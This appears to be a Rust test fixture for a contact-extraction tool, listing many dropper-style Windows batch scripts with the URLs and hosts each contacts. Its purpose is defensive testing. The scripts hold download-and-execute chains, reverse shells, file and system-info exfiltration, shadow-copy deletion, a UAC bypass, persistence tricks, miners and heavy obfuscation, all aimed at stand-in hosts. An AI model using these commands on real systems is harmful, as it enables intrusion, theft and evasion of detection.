//! Batch files in the manners of droppers, each with what it contacts: URLs, or hosts with their
//! ports.

use super::super::run;
use crate::told::contacts;

/// Script and contacts.
const FORMS: &[(&str, &[&str])] = &[
    (
        "@echo off\ncertutil.exe -verifyctl -split -f http://192.0.2.10/a.exe\ndel *.bin\n",
        &["http://192.0.2.10/a.exe"],
    ),
    (
        "@echo off\n\"%SystemRoot%\\System32\\certutil.exe\" /urlcache /split /f \"https://cdn.example.com/p/setup.exe\" \"%TEMP%\\setup.exe\" && \"%TEMP%\\setup.exe\"\n",
        &["https://cdn.example.com/p/setup.exe"],
    ),
    (
        "@echo off\ncopy /y %windir%\\system32\\certutil.exe %temp%\\cu.exe >nul\n%temp%\\cu.exe -urlcache -f http://192.0.2.10/a.txt %temp%\\a.txt\n",
        &["http://192.0.2.10/a.txt"],
    ),
    (
        "@echo off\ncopy C:\\Windows\\System32\\curl.exe C:\\Users\\Public\\vlc.exe\nC:\\Users\\Public\\vlc.exe http://192.0.2.11/a.dll -o C:\\Users\\Public\\a.dll\nrundll32 C:\\Users\\Public\\a.dll,DllRegisterServer\n",
        &["http://192.0.2.11/a.dll"],
    ),
    (
        "@echo off\nxcopy /q /y C:\\Windows\\System32\\bitsadmin.exe C:\\Users\\Public\\ >nul\nren C:\\Users\\Public\\bitsadmin.exe b.exe\nC:\\Users\\Public\\b.exe /transfer q http://192.0.2.12/z.zip C:\\Users\\Public\\z.zip\n",
        &["http://192.0.2.12/z.zip"],
    ),
    (
        "@echo off\nbitsadmin /create mydownload\nbitsadmin /addfile mydownload http://files.example.net/b.exe %APPDATA%\\b.exe\nbitsadmin /resume mydownload\nbitsadmin /complete mydownload\nstart %APPDATA%\\b.exe\n",
        &["http://files.example.net/b.exe"],
    ),
    (
        "@echo off\nstart \"\" /wait mshta.exe \"https://a.example.org/x.hta\"\n",
        &["https://a.example.org/x.hta"],
    ),
    (
        "@echo off\nmshta vbscript:CreateObject(\"Wscript.Shell\").Run(\"powershell -w hidden -c iex(iwr http://192.0.2.13/l.ps1 -useb)\",0)(window.close)\n",
        &["http://192.0.2.13/l.ps1"],
    ),
    (
        "@echo off\nmshta vbscript:Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"powershell -nop -c \"\"\"\"IEX((New-Object Net.WebClient).DownloadString('http://192.0.2.14/q.ps1'))\"\"\"\"\"\",0:close\")\n",
        &["http://192.0.2.14/q.ps1"],
    ),
    (
        "regsvr32.exe /u /n /s /i:http://192.0.2.15/f.sct scrobj.dll\n@echo off\n",
        &["http://192.0.2.15/f.sct"],
    ),
    (
        "@echo off\nrundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";o=GetObject(\"script:http://192.0.2.16/p.sct\");window.close();\n",
        &["http://192.0.2.16/p.sct"],
    ),
    (
        "@echo off\nrundll32.exe url.dll,OpenURL http://192.0.2.17/page.hta\nexit /b\n",
        &["http://192.0.2.17/page.hta"],
    ),
    ("@echo off\nrundll32 \\\\203.0.113.5@80\\dav\\a.dll,Entry\nexit\n", &["203.0.113.5:80"]),
    (
        "@echo off\nnet use z: http://203.0.113.6/share /persistent:no\nz:\\run.exe\n",
        &["http://203.0.113.6/share"],
    ),
    (
        "@echo off\nnet use \\\\files.example.com\\pub /user:guest \"\"\ncopy \\\\files.example.com\\pub\\a.exe %TEMP%\\a.exe\n%TEMP%\\a.exe\n",
        &["files.example.com"],
    ),
    (
        "@echo off\npushd \\\\cdn.example.com@SSL\\DavWWWRoot\\d\nstart x.exe\npopd\n",
        &["cdn.example.com"],
    ),
    ("@echo off\nmsiexec /q /i http://192.0.2.18/u.msi\n", &["http://192.0.2.18/u.msi"]),
    (
        "@echo off\ncmd /c msiexec.exe /i\"http://192.0.2.18/u2.msi\" /qn\n@exit\n",
        &["http://192.0.2.18/u2.msi"],
    ),
    (
        "@echo off\nset msi=mSiExEc\n%msi% /q -i http://192.0.2.19:8080/AAAA\n",
        &["http://192.0.2.19:8080/AAAA"],
    ),
    (
        "@echo off\nwmic os get /format:\"https://x.example.com/s.xsl\"\n",
        &["https://x.example.com/s.xsl"],
    ),
    (
        "@echo off\nwmic process call create 'powershell -c \"iex (new-object net.webclient).downloadstring(\\\"http://192.0.2.20/s.ps1\\\")\"'\nexit\n",
        &["http://192.0.2.20/s.ps1"],
    ),
    (
        "@echo off\nforfiles /p c:\\windows\\system32 /m notepad.exe /c \"cmd /c powershell -c iwr http://192.0.2.21/a.ps1 -useb|iex\"\n",
        &["http://192.0.2.21/a.ps1"],
    ),
    (
        "@echo off\nforfiles /p c:\\windows /m win.ini /c \"mshta http://192.0.2.22/a.hta\"\n",
        &["http://192.0.2.22/a.hta"],
    ),
    (
        "@echo off\npcalua.exe -a mshta.exe -c http://192.0.2.23/a.hta\n",
        &["http://192.0.2.23/a.hta"],
    ),
    (
        "@echo off\nconhost.exe --headless cmd /c curl -s http://192.0.2.24/b.txt -o %temp%\\b.cmd ^& %temp%\\b.cmd\n",
        &["http://192.0.2.24/b.txt"],
    ),
    ("@echo off\nconhost mshta http://192.0.2.25/b.hta\n", &["http://192.0.2.25/b.hta"]),
    ("@echo off\nfinger root@192.0.2.26 | cmd\nexit\n", &["192.0.2.26:79"]),
    (
        "@echo off\nfor /f \"skip=1 delims=\" %%a in ('finger vke@finger.example.com') do call %%a\n",
        &["finger.example.com:79"],
    ),
    (
        "@echo off\nssh -o ProxyCommand=\"mshta http://192.0.2.27/a.hta\" .\n",
        &["http://192.0.2.27/a.hta"],
    ),
    (
        "@echo off\nssh -o StrictHostKeyChecking=no -p 443 u@sh.example.com \"cat a\" | cmd\n",
        &["sh.example.com:443"],
    ),
    (
        "@echo off\nscp -o StrictHostKeyChecking=no user@192.0.2.28:/tmp/a.exe %TEMP%\\a.exe\n",
        &["192.0.2.28:22"],
    ),
    ("@echo off\nsftp user@192.0.2.29:/a.exe %TEMP%\\a.exe\n", &["192.0.2.29:22"]),
    (
        "@echo off\necho open 198.51.100.7>%temp%\\f.txt\necho user anonymous x@x.example>>%temp%\\f.txt\necho binary>>%temp%\\f.txt\necho get pay.exe %temp%\\pay.exe>>%temp%\\f.txt\necho bye>>%temp%\\f.txt\nftp -n -s:%temp%\\f.txt\nstart %temp%\\pay.exe\n",
        &["ftp://198.51.100.7/pay.exe"],
    ),
    (
        "@echo off\n(echo anonymous&echo pass&echo bin&echo cd x&echo get y.exe&echo quit)>c.dat\nftp -v -A -s:c.dat ftp.example.com\ny.exe\n",
        &["ftp://ftp.example.com/x/y.exe"],
    ),
    (
        "@echo off\necho open 198.51.100.8 2121> s.txt& echo USER a b>> s.txt& echo GET k.exe>> s.txt& echo bye >> s.txt\nftp -v -n -s:s.txt & del s.txt & k.exe\n",
        &["ftp://198.51.100.8:2121/k.exe"],
    ),
    ("@echo off\ntftp -i 192.0.2.30 GET a.exe %TEMP%\\a.exe\n", &["tftp://192.0.2.30/a.exe"]),
    (
        "@echo off\ncurl.exe -k -L -s --connect-timeout 5 --retry 3 --retry-delay 1 -A \"Mozilla/5.0\" -e http://www.example.com/ -x \"\" -o \"%TEMP%\\a.exe\" \"http://192.0.2.31/a.exe\"\n",
        &["http://192.0.2.31/a.exe"],
    ),
    (
        "@echo off\ncurl -sSLko %TEMP%\\x.ps1 https://dl.example.com/x.ps1 & powershell -ep bypass -f %TEMP%\\x.ps1\n",
        &["https://dl.example.com/x.ps1"],
    ),
    (
        "@echo off\ncurl --url dl.example.com/y.exe --output=%TEMP%\\y.exe\n",
        &["http://dl.example.com/y.exe"],
    ),
    (
        "@echo off\nfor /f %%i in ('curl -s http://192.0.2.32/u.txt') do start %%i\n",
        &["http://192.0.2.32/u.txt"],
    ),
    (
        "@echo off\nsysteminfo > %temp%\\i.txt\ncurl -F chat_id=1 -F document=@%temp%\\i.txt https://api.telegram.example/bot1/sendDocument\n",
        &["https://api.telegram.example/bot1/sendDocument"],
    ),
    (
        "@echo off\nset webhook=https://hook.example.com/api/webhooks/1/abc\ncurl -H \"Content-Type: application/json\" -X POST -d \"{\\\"content\\\":\\\"%username%\\\"}\" %webhook%\n",
        &["https://hook.example.com/api/webhooks/1/abc"],
    ),
    (
        "@echo off\nwget.exe -q --no-check-certificate http://192.0.2.33/w.exe -O %TEMP%\\w.exe\n",
        &["http://192.0.2.33/w.exe"],
    ),
    (
        "@echo off\naria2c -d %TEMP% -o w.exe http://192.0.2.34/w.exe\n",
        &["http://192.0.2.34/w.exe"],
    ),
    (
        "@echo off\npowershell -Command \"Invoke-WebRequest 'http://192.0.2.35/z.zip' -OutFile 'z.zip'; Expand-Archive z.zip -DestinationPath .\"\n",
        &["http://192.0.2.35/z.zip"],
    ),
    (
        "@echo off\npowershell.exe -nop -w 1 iex ((new-object net.webclient).downloadstring('http://192.0.2.36/p.txt'))\n",
        &["http://192.0.2.36/p.txt"],
    ),
    (
        "@echo off\npowershell -nop -c iwr http://192.0.2.37/p.txt -useb ^| iex\n",
        &["http://192.0.2.37/p.txt"],
    ),
    (
        "@echo off\nset \"U=http://192.0.2.38/p.txt\"\nset \"C=i^w^r\"\npowershell -nop -c \"iex((New-Object Net.WebClient).DownloadString($env:U))\"\n",
        &["http://192.0.2.38/p.txt"],
    ),
    (
        "@echo off\npowershell -c Start-BitsTransfer -Source https://b.example.com/s.exe -Destination $env:TEMP\\s.exe; Start-Process $env:TEMP\\s.exe\n",
        &["https://b.example.com/s.exe"],
    ),
    (
        "@echo off\npowershell -ExecutionPolicy Bypass -Command ^\n  \"$u = 'http://192.0.2.39/m.exe';\" ^\n  \"$o = $env:TEMP + '\\m.exe';\" ^\n  \"(New-Object System.Net.WebClient).DownloadFile($u,$o);\" ^\n  \"Start-Process $o\"\n",
        &["http://192.0.2.39/m.exe"],
    ),
    (
        "@echo off\n>nul 2>&1 \"%SYSTEMROOT%\\system32\\cacls.exe\" \"%SYSTEMROOT%\\system32\\config\\system\"\nif '%errorlevel%' NEQ '0' (\n    goto UACPrompt\n) else ( goto gotAdmin )\n:UACPrompt\n    echo Set UAC = CreateObject^(\"Shell.Application\"^) > \"%temp%\\getadmin.vbs\"\n    set params = %*:\"=\"\"\n    echo UAC.ShellExecute \"cmd.exe\", \"/c %~s0 %params%\", \"\", \"runas\", 1 >> \"%temp%\\getadmin.vbs\"\n    \"%temp%\\getadmin.vbs\"\n    del \"%temp%\\getadmin.vbs\"\n    exit /B\n:gotAdmin\n    pushd \"%CD%\"\n    CD /D \"%~dp0\"\npowershell -c \"iwr http://192.0.2.40/e.exe -o $env:tmp\\e.exe; saps $env:tmp\\e.exe\"\n",
        &["http://192.0.2.40/e.exe"],
    ),
    (
        "@echo off\nschtasks /create /tn \"Updater\" /sc minute /mo 10 /tr \"powershell -w hidden -c \\\"iex(irm http://192.0.2.41/t.ps1)\\\"\" /f\n",
        &["http://192.0.2.41/t.ps1"],
    ),
    (
        "@echo off\nschtasks /create /tn Up /sc onlogon /tr \"cmd /c curl http://192.0.2.42/t.cmd -o %%temp%%\\t.cmd && %%temp%%\\t.cmd\" /f\nschtasks /run /tn Up\n",
        &["http://192.0.2.42/t.cmd"],
    ),
    (
        "@echo off\nreg.exe add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v \"Up\" /t REG_SZ /d \"mshta http://192.0.2.43/r.hta\" /f\n",
        &["http://192.0.2.43/r.hta"],
    ),
    (
        "@echo off\nsc create up binPath= \"cmd /c powershell -c iex(iwr http://192.0.2.44/s.ps1)\" start= auto\nsc start up\n",
        &["http://192.0.2.44/s.ps1"],
    ),
    ("@echo off\nat 13:00 mshta http://192.0.2.45/s.hta\nexit\n", &["http://192.0.2.45/s.hta"]),
    (
        "@echo off\nC:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /U http://192.0.2.46/i.dll\n",
        &["http://192.0.2.46/i.dll"],
    ),
    (
        "@echo off\nset \"SYSTEMROOT=C:\\Windows\\Temp\" && cmd /c desktopimgdownldr.exe /lockscreenurl:http://192.0.2.47/a.jpg /eventName:desktopimgdownldr\n",
        &["http://192.0.2.47/a.jpg"],
    ),
    (
        "@echo off\n\"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18.2008.9-0\\MpCmdRun.exe\" -DownloadFile -url http://192.0.2.48/a.exe -path C:\\Users\\Public\\a.exe\n",
        &["http://192.0.2.48/a.exe"],
    ),
    ("@echo off\nhh.exe http://192.0.2.49/a.chm\n", &["http://192.0.2.49/a.chm"]),
    (
        "@echo off\n%windir%\\Microsoft.NET\\Framework\\v2.0.50727\\ieexec.exe http://192.0.2.50:8080/b.exe\n",
        &["http://192.0.2.50:8080/b.exe"],
    ),
    (
        "@echo off\ncertreq -Post -config https://192.0.2.51/c c:\\windows\\win.ini %TEMP%\\o.txt\n",
        &["https://192.0.2.51/c"],
    ),
    ("@echo off\ncertoc.exe -GetCACAPS http://192.0.2.52/a.ps1\n", &["http://192.0.2.52/a.ps1"]),
    ("@echo off\nexpand \\\\192.0.2.53\\w\\a.cab %TEMP%\\a.exe\n", &["192.0.2.53"]),
    ("@echo off\nesentutl.exe /y \\\\192.0.2.54\\w\\a.exe /d %TEMP%\\a.exe /o\n", &["192.0.2.54"]),
    (
        "@echo off\nfindstr /V zzz \\\\192.0.2.55\\w\\a.exe > %TEMP%\\a.exe\nprint /D:%TEMP%\\b.exe \\\\192.0.2.55\\w\\b.exe\n",
        &["192.0.2.55"],
    ),
    ("@echo off\nreplace.exe \\\\192.0.2.56\\w\\a.cab %TEMP% /A\n", &["192.0.2.56"]),
    (
        "@echo off\nstart https://www.example.com/fake.pdf\ncurl http://192.0.2.57/a.exe -o a.exe\n",
        &["https://www.example.com/fake.pdf", "http://192.0.2.57/a.exe"],
    ),
    ("@echo off\nexplorer \"https://www.example.com/d\"\n", &["https://www.example.com/d"]),
    (
        "@echo off\nstart msedge --kiosk https://www.example.com/e --edge-kiosk-type=fullscreen\n",
        &["https://www.example.com/e"],
    ),
    (
        "@echo off\nmsxsl.exe http://192.0.2.58/a.xml http://192.0.2.58/a.xsl\n",
        &["http://192.0.2.58/a.xml", "http://192.0.2.58/a.xsl"],
    ),
    ("@echo off\nregsvr32 /s \\\\192.0.2.59\\s\\a.dll\n", &["192.0.2.59"]),
    (
        "@echo off\nfor /f \"tokens=*\" %%i in ('nslookup -querytype^=txt txt.example.com') do set q=%%i\n",
        &["txt.example.com"],
    ),
    (
        "@echo off\npowershell -e aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4ANgAwAC8AZQBuAGMAKQA=\n",
        &["http://192.0.2.60/enc"],
    ),
    (
        "@echo off\npython -c \"import urllib.request;exec(urllib.request.urlopen('http://192.0.2.61/py').read())\"\n",
        &["http://192.0.2.61/py"],
    ),
    (
        "@echo off\nnode -e \"require('http').get('http://192.0.2.62/js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})\"\n",
        &["http://192.0.2.62/js"],
    ),
    (
        "@echo off\nwinget install --manifest http://192.0.2.63/a.yml\n",
        &["http://192.0.2.63/a.yml"],
    ),
    (
        "@echo off\nstart ms-appinstaller:?source=http://192.0.2.64/a.msix\n",
        &["http://192.0.2.64/a.msix"],
    ),
    (
        "@echo off\nstart \"\" \"search-ms:query=a&crumb=location:\\\\192.0.2.65\\share&displayname=x\"\n",
        &["192.0.2.65"],
    ),
    (
        "@echo off\nset \"xQz=se\"\nset \"Lpw=t \"\n%xQz%%Lpw%\"aa=power\"\n%xQz%%Lpw%\"bb=shell\"\n%xQz%%Lpw%\"cc= -w hidden -c \"\n%xQz%%Lpw%\"dd=iex(iwr http://192\"\n%xQz%%Lpw%\"ee=.0.2.70/a.ps1 -useb)\"\n%aa%%bb%%cc%%dd%%ee%\n",
        &["http://192.0.2.70/a.ps1"],
    ),
    (
        "@echo off\ns^e^t a=c^u^r^l\ns^et \"b=http://192.0.2.71/\"\n%a% -o x.exe %b%a.exe\n",
        &["http://192.0.2.71/a.exe"],
    ),
    (
        "@echo off\nset k=http://192.0.2.72/a.exe\nset n=k\ncall set v=%%%n%%%\ncurl -O %v%\n",
        &["http://192.0.2.72/a.exe"],
    ),
    (
        "@echo off\nsetlocal\nset str=zzhttp://192.0.2.73/a.exezz\nset str=%str:~2,-2%\ncall curl -o a.exe %%str%%\nendlocal\n",
        &["http://192.0.2.73/a.exe"],
    ),
    (
        "@echo off\nsetlocal enabledelayedexpansion\nset \"s=exe.a/47.2.0.291//:ptth\"\nset \"r=\"\n:loop\nif \"!s!\"==\"\" goto done\nset \"r=!s:~0,1!!r!\"\nset \"s=!s:~1!\"\ngoto loop\n:done\ncurl -o %temp%\\a.exe !r!\n",
        &["http://192.0.2.74/a.exe"],
    ),
    (
        "@echo off & setlocal EnableDelayedExpansion\nset \"al=abcdefghijklmnopqrstuvwxyz0123456789:/. -\"\nfor %%a in (2 20 17 11 40 7 19 19 15 36 37 37 27 35 28 38 26 38 28 38 33 31 37 0 38 4 23 4) do set \"o=!o!!al:~%%a,1!\"\n!o!\n",
        &["http://192.0.2.75/a.exe"],
    ),
    (
        "@echo off\nfor /f \"usebackq delims=:: tokens=1*\" %%a in (`findstr /b \":: \" \"%~f0\"`) do set \"l=%%b\"\npowershell -c \"%l%\"\nexit /b\n:: X:iex(iwr 'http://192.0.2.76/a.ps1' -useb)\n",
        &["http://192.0.2.76/a.ps1"],
    ),
    (
        "@echo off\nmore +5 \"%~f0\" > \"%temp%\\r.ps1\"\npowershell -ep bypass -file \"%temp%\\r.ps1\"\nexit /b\n\niex (New-Object Net.WebClient).DownloadString(\"http://192.0.2.77/a.ps1\")\n",
        &["http://192.0.2.77/a.ps1"],
    ),
    (
        "::'@cscript //nologo //e:vbscript \"%~f0\" & exit /b\nSet x = CreateObject(\"MSXML2.XMLHTTP\")\nx.Open \"GET\", \"http://192.0.2.80/a.vbs\", False\nx.Send\n",
        &["http://192.0.2.80/a.vbs"],
    ),
    (
        "@echo off\n(\necho var h=new ActiveXObject^(\"WinHttp.WinHttpRequest.5.1\"^);\necho h.Open^(\"GET\",\"http://192.0.2.81/a.exe\",false^);h.Send^(^);\n)>\"%temp%\\d.js\"\nwscript \"%temp%\\d.js\"\n",
        &["http://192.0.2.81/a.exe"],
    ),
    (
        "@echo off\necho strUrl = WScript.Arguments(0) > d.vbs\necho strFile = WScript.Arguments(1) >> d.vbs\necho Set h = CreateObject(\"MSXML2.ServerXMLHTTP\") >> d.vbs\necho h.Open \"GET\", strUrl, False >> d.vbs\necho h.Send >> d.vbs\ncscript d.vbs http://192.0.2.82/a.exe a.exe\n",
        &["http://192.0.2.82/a.exe"],
    ),
    (
        "@echo off\necho var W = new ActiveXObject(\"WinHttp.WinHttpRequest.5.1\"); > wget.js\necho W.Open(\"GET\", WScript.Arguments(0), 0); W.Send(); >> wget.js\ncscript /nologo wget.js http://192.0.2.83/a.exe\n",
        &["http://192.0.2.83/a.exe"],
    ),
    (
        "@echo off\necho http://192.0.2.84/a>u.txt\nset /p u=<u.txt\ncurl %u%\n",
        &["http://192.0.2.84/a"],
    ),
    (
        "@echo off\n:try\ncurl -f -o a.exe http://192.0.2.86/a.exe\nif %errorlevel% neq 0 (\ntimeout /t 30\ngoto try\n)\nstart a.exe\n",
        &["http://192.0.2.86/a.exe"],
    ),
    (
        "@echo off\nfor %%s in (192.0.2.88,198.51.100.9) do (\n  curl -s http://%%s/a -o a.exe && goto :run\n)\n:run\nstart a.exe\n",
        &["http://192.0.2.88/a", "http://198.51.100.9/a"],
    ),
    (
        "@echo off\nsetlocal EnableDelayedExpansion\ncall :mk url 192.0.2.89 p a.exe\ncurl -o a.exe !url!\ngoto :eof\n:mk\nset \"%1=http://%~2/%~3/%~4\"\ngoto :eof\n",
        &["http://192.0.2.89/p/a.exe"],
    ),
    (
        "@echo off\ncall :dec ret \"a/09.2.0.291//:ptth\"\ncurl %ret%\nexit /b\n:dec\nsetlocal enabledelayedexpansion\nset \"in=%~2\"\nset \"out=\"\nfor /l %%i in (0,1,40) do if not \"!in:~%%i,1!\"==\"\" set \"out=!in:~%%i,1!!out!\"\nendlocal & set \"%~1=%out%\"\nexit /b\n",
        &["http://192.0.2.90/a"],
    ),
    (
        "@echo off\nsetlocal enabledelayedexpansion\nset \"u=\"\nfor %%c in (104 116 116 112 58 47 47 49 57 50 46 48 46 50 46 57 49 47 97) do (\n  cmd /c exit %%c\n  set \"u=!u!!=exitcodeAscii!\"\n)\ncurl !u!\n",
        &["http://192.0.2.91/a"],
    ),
    (
        "@echo off\necho 6375726c20687474703a2f2f3139322e302e322e39322f61>h.txt\ncertutil -f -decodehex h.txt c.bat >nul\ncall c.bat\n",
        &["http://192.0.2.92/a"],
    ),
    (
        "@echo off\nfor /f \"delims=\" %%i in ('powershell -nop -c \"[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aHR0cDovLzE5Mi4wLjIuOTMvYQ=='))\"') do curl %%i\n",
        &["http://192.0.2.93/a"],
    ),
    ("&cls\n@echo off\ncurl http://192.0.2.94/a\n", &["http://192.0.2.94/a"]),
    (
        "@echo off\nstart /min \"\" powershell -w hidden -nop -c \"&{$a='http://192.0.2.95/';iex (irm ($a+'a'))}\"\n",
        &["http://192.0.2.95/a"],
    ),
    (
        "@echo off\nif not DEFINED IS_MINIMIZED set IS_MINIMIZED=1 && start \"\" /min \"%~dpnx0\" %* && exit\ncurl http://192.0.2.96/a -o a.exe\nexit\n",
        &["http://192.0.2.96/a"],
    ),
    (
        "@echo off\npowershell -w hidden -c \"$f=[IO.File]::ReadAllText('%~f0');$i=$f.LastIndexOf('#P'+'S#');iex $f.Substring($i+4)\"\nexit /b\n#PS#\niwr http://192.0.2.97/a -OutFile a.exe\n",
        &["http://192.0.2.97/a"],
    ),
    (
        "@echo off\ncopy C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe \"%~dp0%~nx0.exe\" /y >nul\ncd \"%~dp0\"\n\"%~nx0.exe\" -noprofile -windowstyle hidden -ep bypass -command iwr http://192.0.2.98/a -OutFile a.exe\nexit /b\n",
        &["http://192.0.2.98/a"],
    ),
    (
        "@echo off\necho iwr http://192.0.2.99/a -o a.exe | powershell -nop -w hidden -\nset /p=\"\" <nul\n",
        &["http://192.0.2.99/a"],
    ),
    ("@echo off\necho curl http://192.0.2.99/b ^& exit | cmd.exe\n", &["http://192.0.2.99/b"]),
    (
        "@echo off\nset FOO=iex (iwr http://192.0.2.100/b).Content\npowershell -c \"(gi env:FOO).Value | iex\"\n",
        &["http://192.0.2.100/b"],
    ),
    (
        "cmd /V:ON /C \"set a=http://192.0.2.101/&& set b=b&& curl !a!!b!\"\n",
        &["http://192.0.2.101/b"],
    ),
    (
        "cmd /V /C \"set r=:lrc/.tpu 1920b&&for %A in (3,7,2,1,8,34,6,6,5) do echo %A\" & curl http://192.0.2.102/b\n",
        &["http://192.0.2.102/b"],
    ),
    (
        "@echo off\nFOR /F \"delims=s\\ tokens=4\" %%a IN ('set^|findstr PSM')DO %%a -nop -c \"iwr http://192.0.2.104/b -o b\"\n",
        &["http://192.0.2.104/b"],
    ),
    (
        "@echo off\nfor /f \"tokens=2 delims==\" %%a in ('assoc .cmd') do for /f \"tokens=1 delims=e\" %%b in ('ftype %%a') do echo %%b\ncurl http://192.0.2.105/b\n",
        &["http://192.0.2.105/b"],
    ),
    (
        "@echo off\nfor /f \"tokens=1-3\" %%a in (\"192.0.2.106 c d\") do curl http://%%a/%%b/%%c\n",
        &["http://192.0.2.106/c/d"],
    ),
    (
        "@echo off\nfor /f \"tokens=1* delims=,\" %%a in (\"curl,http://192.0.2.107/c -o x\") do %%a %%b\n",
        &["http://192.0.2.107/c"],
    ),
    (
        "@echo off\necho http://192.0.2.108/1> l.txt\necho http://192.0.2.108/2>> l.txt\nfor /f \"tokens=* eol=;\" %%u in (l.txt) do curl -O %%u\n",
        &["http://192.0.2.108/1", "http://192.0.2.108/2"],
    ),
    (
        "@echo off\nset /a x=5*3-15\nif %x% equ 0 (set p=c) else (set p=d)\ncurl http://192.0.2.109/%p%\n",
        &["http://192.0.2.109/c"],
    ),
    (
        "@echo off\nset \"ケ=curl\"\nset \"ä=http://192.0.2.110\"\n%ケ% %ä%/c\n",
        &["http://192.0.2.110/c"],
    ),
    (
        "@set a=http&set b=://192.0.2&set c=.111/c&call curl %%a%%%%b%%%%c%%\n",
        &["http://192.0.2.111/c"],
    ),
    (
        "@echo off\nsetlocal enabledelayedexpansion\nset k=QQ\nset s=hQQttQQp:QQ//192QQ.0.2QQ.112/QQc\ncurl !s:%k%=!\n",
        &["http://192.0.2.112/c"],
    ),
    ("@echo off\n>nul 2>&1 curl -o c http://192.0.2.113/c\n", &["http://192.0.2.113/c"]),
    (
        "@echo off\nset \"b=aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwAxADkAMgAuADAALgAyAC4AMQAxADQALwBjACk\"\nset \"b=%b%A\"\nstart /b powershell -nop -w hidden -enc %b%\n",
        &["http://192.0.2.114/c"],
    ),
    ("@echo off\n\"c\"u\"r\"l -o c http://192.0.2.115/c\n", &["http://192.0.2.115/c"]),
    (
        "@echo off\n> \"%temp%\\a.vbs\" (\n  echo Dim s: Set s = CreateObject(\"WScript.Shell\"^)\n  echo s.Run \"cmd /c curl http://192.0.2.116/c\", 0\n)\nstart \"\" \"%temp%\\a.vbs\"\n",
        &["http://192.0.2.116/c"],
    ),
    (
        "@echo off\ncertutil -decode \"%~f0\" \"%temp%\\c.cmd\" >nul 2>&1\ncall \"%temp%\\c.cmd\"\nexit /b\n-----BEGIN CERTIFICATE-----\nY3VybCBodHRwOi8vMTkyLjAuMi4xMTcvYw==\n-----END CERTIFICATE-----\n",
        &["http://192.0.2.117/c"],
    ),
    (
        "@echo off\nreg add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command /ve /d \"powershell -w hidden iex(irm http://192.0.2.118/c)\" /f\nfodhelper.exe\n",
        &["http://192.0.2.118/c"],
    ),
    (
        "@echo off\npowershell.exe $u='http://192.0.2.119/c';$p=$env:TEMP+'\\x.exe';(New-Object Net.WebClient).DownloadFile($u,$p);^& $p\n",
        &["http://192.0.2.119/c"],
    ),
    (
        "@echo off\nvssadmin delete shadows /all /quiet & wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no\nnet stop WinDefend /y\ntaskkill /f /im chrome.exe\nattrib +h +s \"%~f0\"\ncurl http://192.0.2.120/c\n",
        &["http://192.0.2.120/c"],
    ),
    (
        "@echo off\nsetlocal enabledelayedexpansion\nfor %%f in (xk) do (\nset t=%%f\ncurl http://192.0.2.121/!t:x=!\n)\n",
        &["http://192.0.2.121/k"],
    ),
    (
        "@echo off\nsetlocal enabledelayedexpansion\nset p1=http://\nset p2=192.0.2\nset p3=.122/ab\nset u=\nfor /l %%i in (1,1,3) do set u=!u!!p%%i!\ncurl %u%\n",
        &["http://192.0.2.122/ab"],
    ),
    (
        "@echo off\nping -n 1 c2.example.net | find \"TTL=\" >nul\nif errorlevel 1 exit\n",
        &["c2.example.net"],
    ),
    (
        "@echo off\nnetsh interface portproxy add v4tov4 listenport=8080 listenaddress=0.0.0.0 connectport=443 connectaddress=192.0.2.130\n",
        &["192.0.2.130:443"],
    ),
    (
        "@echo off\nplink.exe -ssh -l root -pw x -R 3389:127.0.0.1:3389 192.0.2.131\n",
        &["192.0.2.131:22"],
    ),
    ("@echo off\nncat.exe 192.0.2.132 4444 -e cmd.exe\n", &["192.0.2.132:4444"]),
    ("@echo off\nnc.exe -e cmd.exe -nv 192.0.2.133 5555\n", &["192.0.2.133:5555"]),
    (
        "@echo off\nxmrig.exe -o stratum+tcp://pool.example.com:3333 -u 4x -p x --donate-level 1\npause\n",
        &["pool.example.com:3333"],
    ),
    (
        "@echo off\ncd /d %~dp0\nstart /min xmrig.exe --url=pool.example.com:5555 --user=abc -k --tls\n",
        &["pool.example.com:5555"],
    ),
    (
        "@echo off\nchisel.exe client http://192.0.2.134:8080 R:socks\n",
        &["http://192.0.2.134:8080"],
    ),
    ("@echo off\ntelnet 192.0.2.135\n", &["192.0.2.135:23"]),
    (
        "@echo off\npowershell -nop -c \"$client = New-Object System.Net.Sockets.TCPClient('192.0.2.136',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + 'PS ' + (pwd).Path + '> ';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()\"\n",
        &["192.0.2.136:4444"],
    ),
    (
        "@echo off\ncmdkey /generic:192.0.2.137 /user:a /pass:b\nmstsc /v:192.0.2.137\n",
        &["192.0.2.137:3389"],
    ),
    ("@echo off\npsexec.exe \\\\192.0.2.138 -u a -p b -c a.exe\n", &["192.0.2.138:445"]),
    ("@echo off\nwinrs -r:192.0.2.139 -u:a -p:b cmd\n", &["192.0.2.139:5985"]),
    (
        "@echo off\nwmic /node:192.0.2.140 /user:a /password:b process call create \"cmd /c a.exe\"\n",
        &["192.0.2.140:135"],
    ),
    (
        "@echo off\nfor %%f in (*.docx) do curl -s -T \"%%f\" http://192.0.2.141/up\n",
        &["http://192.0.2.141/up"],
    ),
    (
        "@echo off\npowershell \"$w=New-Object Net.WebClient;$w.Credentials=New-Object Net.NetworkCredential('u','p');$w.UploadFile('ftp://ftp.example.com/in.txt','C:\\in.txt')\"\n",
        &["ftp://ftp.example.com/in.txt"],
    ),
    (
        "@echo off\ncurl -T i.zip ftp://ftp.example.com/up/ --user u:p\n",
